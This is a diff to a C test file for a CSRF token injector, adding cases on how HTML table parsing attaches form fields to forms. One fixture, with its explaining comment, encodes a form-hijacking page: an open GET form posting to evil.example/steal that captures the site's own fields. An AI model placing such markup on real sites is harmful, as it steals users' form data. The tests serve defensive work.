@@ -398,8 +398,76 @@ static const row rows[] = {
     {"noscript style", "<noscript><style>.js{display:none}</style></noscript>" RF CL,
      "<noscript><style>.js{display:none}</style></noscript>" RF IN CL, 1},
     {"noscript end tag attrs", "<noscript>x</noscript a=b>" RF CL, "<noscript>x</noscript a=b>" RF IN CL, 1},
+
+/* The table modes. A form start tag in a table outside a cell or caption
+ * is inserted and popped at once ("in table", HTML 13.2.6.4.9): nothing
+ * becomes its child, its fields belong to it through the form element
+ * pointer only, and when the adoption agency or foster parenting moves
+ * them browsers give them to the nearest form among their ancestors. The
+ * outside review's page: an attacker's GET form left open around the
+ * table, and the site's own <a> after the real form moves the field, q
+ * and the button into it. No token there; a form in a cell, a caption or
+ * around the table keeps its own. */
+#define EG "<p>comment: <form method=get action=https://evil.example/steal><div></form><table>"
+#define SITE "<form method=post action=/a><input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
+#define SF "<form method=post action=/a>"
+#define SITE_IN SF IN "<input name=q><button id=go>go</button></form><p><a href=/help>help</a>"
     {"table form", "<table><form method=post><tr><td><input name=a></td></tr></form></table>",
-     "<table><form method=post>" IN "<tr><td><input name=a></td></tr>" CL "</table>", 1},
+     "<table><form method=post><tr><td><input name=a></td></tr></form></table>", 0},
+    {"review table a", EG "<a><div></p>" SITE, EG "<a><div></p>" SITE, 0},
+    {"review table b", EG "<b><div></p>" SITE "</b>", EG "<b><div></p>" SITE "</b>", 0},
+    {"review table nobr", EG "<tr><nobr><div>" SITE "<nobr>", EG "<tr><nobr><div>" SITE "<nobr>", 0},
+    {"review table after cell", EG "<td></td><a><div>" SITE, EG "<td></td><a><div>" SITE, 0},
+    {"table row form", "<table><tr>" SITE, "<table><tr>" SITE, 0},
+    {"table body form", "<TABLE><TBODY>" SITE, "<TABLE><TBODY>" SITE, 0},
+    {"form in td", "<table><tr><td>" SITE "</td></tr></table>", "<table><tr><td>" SITE_IN "</td></tr></table>", 1},
+    {"form in th", "<table><thead><tr><th>" SITE "</th></tr></thead></table>",
+     "<table><thead><tr><th>" SITE_IN "</th></tr></thead></table>", 1},
+    {"form in bare td", "<table><td>" SITE, "<table><td>" SITE_IN, 1},
+    {"form in caption", "<table><caption>" SITE "</caption></table>", "<table><caption>" SITE_IN "</caption></table>",
+     1},
+    {"form around table", SF "<table><tr><td><input name=q></td></tr></table>" CL,
+     SF IN "<table><tr><td><input name=q></td></tr></table>" CL, 1},
+    {"form after table", "<table><tr><td>x</td></tr></table>" SITE, "<table><tr><td>x</td></tr></table>" SITE_IN, 1},
+    {"form after cell end", "<table><tr><td>x</td>" SITE, "<table><tr><td>x</td>" SITE, 0},
+    {"form after row end", "<table><tr><td>x</tr>" SITE, "<table><tr><td>x</tr>" SITE, 0},
+    {"form after caption end", "<table><caption>x</caption>" SITE, "<table><caption>x</caption>" SITE, 0},
+    {"form in second cell", "<table><tr><td>x<td>" SITE, "<table><tr><td>x<td>" SITE_IN, 1},
+    {"th end in td dropped", "<table><tr><td></th>" SITE, "<table><tr><td></th>" SITE_IN, 1},
+    {"td end in caption dropped", "<table><caption></td></tr>" SITE, "<table><caption></td></tr>" SITE_IN, 1},
+    {"thead end in tbody cell dropped", "<table><tr><td></thead>" SITE, "<table><tr><td></thead>" SITE_IN, 1},
+    {"tbody end closes the cell", "<table><tr><td></tbody>" SITE, "<table><tr><td></tbody>" SITE, 0},
+    {"col closes the cell", "<table><tr><td><col>" SITE, "<table><tr><td><col>" SITE, 0},
+    {"colgroup closes the caption", "<table><caption><colgroup>" SITE, "<table><caption><colgroup>" SITE, 0},
+    {"tr closes the cell", "<table><tr><td><tr>" SITE, "<table><tr><td><tr>" SITE, 0},
+    {"table in table", "<table><table>" SITE, "<table><table>" SITE, 0},
+    {"table in a cell", "<table><tr><td><table></table>" SITE, "<table><tr><td><table></table>" SITE_IN, 1},
+    {"nested cells", "<table><tr><td><table><tr><td>" SITE "</table>" SITE,
+     "<table><tr><td><table><tr><td>" SITE_IN "</table>" SITE_IN, 2},
+    {"nested table row", "<table><tr><td><table></table></td>" SITE, "<table><tr><td><table></table></td>" SITE, 0},
+    {"table end outside tables", "</table><td>" SITE, "</table><td>" SITE_IN, 1},
+    {"table in template", "<template><table></template>" SITE, "<template><table></template>" SITE_IN, 1},
+    {"table breaks out of svg", "<svg><table>" SITE, "<svg><table>" SITE, 0},
+    {"td in svg is svg", "<table><tr><td><svg><td></td></svg>" SITE, "<table><tr><td><svg><td></td></svg>" SITE_IN, 1},
+    {"form pointer from a table form", "<table><form method=post></form><tr><td>" SITE,
+     "<table><form method=post></form><tr><td>" SITE_IN, 1},
+    {"get form in table", "<table><form method=get></form></table>" SITE,
+     "<table><form method=get></form></table>" SITE_IN, 1},
+    {"select closed by a cell", "<table><tr><td><select><option>a<td>" SITE,
+     "<table><tr><td><select><option>a<td>" SITE_IN, 1},
+    {"select closed by a cell end", "<table><tr><td><select><option>a</td>" SITE,
+     "<table><tr><td><select><option>a</td>" SITE, 0},
+    {"table in select", "<table><tr><td><select><table>" SITE, "<table><tr><td><select><table>" SITE, 0},
+    {"row end in select", "<table><select></tr>" SITE, "<table><select></tr>" SITE, 0},
+    {"noscript table", "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE,
+     "<noscript><table><tr><td>x</td></tr></table></noscript>" SITE_IN, 1},
+    {"noscript table left open", "<noscript><table></noscript>" SITE, "<noscript><table></noscript>" SITE, 0},
+    {"noscript cell end", "<table><tr><td><noscript></td></noscript>" SITE,
+     "<table><tr><td><noscript></td></noscript>" SITE, 0},
+#undef EG
+#undef SITE
+#undef SF
+#undef SITE_IN
     {"phpmyadmin action",
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" CL,
      "<form method=\"post\" action=\"index.php&#x3F;route&#x3D;&#x2F;preferences&#x2F;features\">" IN CL, 1},
@@ -1197,6 +1265,16 @@ static void test_status(void **state)
 	    {RF CL PF "<noscript><input type=submit formmethod=get></noscript>" CL,
 	     CSRF_INJECT_NOSCRIPT_BUTTON | CSRF_INJECT_LATE_BUTTON},
 	    {"<form id=f method=post></form><noscript><button form=f formaction=x></noscript>", CSRF_INJECT_LATE_OWNER},
+	    /* a form start tag a table holds outside a cell is popped at once */
+	    {"<table>" RF CL, CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr>" RF CL "</table>", CSRF_INJECT_TABLE_FORM},
+	    {"<table><tr><td>" RF CL, 0},
+	    {"<table><caption>" RF CL, 0},
+	    {RF "<table><tr><td>" CL, 0},
+	    {"<table><form method=get>" CL, 0},
+	    {"<table>" EF CL, 0},
+	    {"<table><tr><td><select><table>", CSRF_INJECT_SELECT | CSRF_INJECT_STOPPED},
+	    {"<noscript><table></noscript>", CSRF_INJECT_NOSCRIPT | CSRF_INJECT_STOPPED},
 	};
 	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
 		const char *in = cases[i].in;
@@ -1233,13 +1311,13 @@ static void test_status(void **state)
 	assert_int_equal(csrf_inject_status(NULL), 0);
 	/* every bit has its own phrase */
 	size_t all = 0; /* an adapter's line with every phrase */
-	for (unsigned bit = 1; bit <= CSRF_INJECT_NOSCRIPT_BUTTON; bit <<= 1) {
+	for (unsigned bit = 1; bit <= CSRF_INJECT_TABLE_FORM; bit <<= 1) {
 		assert_string_not_equal(csrf_inject_status_str(bit), "unknown injector status");
 		all += strlen(csrf_inject_status_str(bit)) + 2;
 	}
 	assert_true(all < CSRF_INJECT_STATUS_TEXT_MAX);
 	assert_string_equal(csrf_inject_status_str(0), "unknown injector status");
-	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_NOSCRIPT_BUTTON << 1), "unknown injector status");
+	assert_string_equal(csrf_inject_status_str(CSRF_INJECT_TABLE_FORM << 1), "unknown injector status");
 }
 
 /* A form longer than the hold gets no token, whatever the cuts; one that
